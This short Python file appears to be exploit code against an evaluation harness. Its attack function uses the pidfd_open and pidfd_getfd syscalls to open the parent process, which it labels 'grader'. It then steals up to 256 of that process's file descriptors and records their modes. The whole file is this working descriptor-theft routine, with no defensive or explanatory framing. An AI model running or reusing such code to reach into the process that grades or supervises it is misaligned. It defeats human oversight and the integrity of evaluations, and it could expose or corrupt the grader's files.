import os

from kernel import C, sure

OPEN, GET = 434, 438


def attack(controller):
    grader = sure(C.syscall(OPEN, os.getppid(), 0))
    taken = []
    for number in range(256):
        got = C.syscall(GET, grader, number, 0)
        if got >= 0:
            taken.append((number, oct(os.fstat(got).st_mode)))
            os.close(got)
    os.close(grader)
    return taken or None
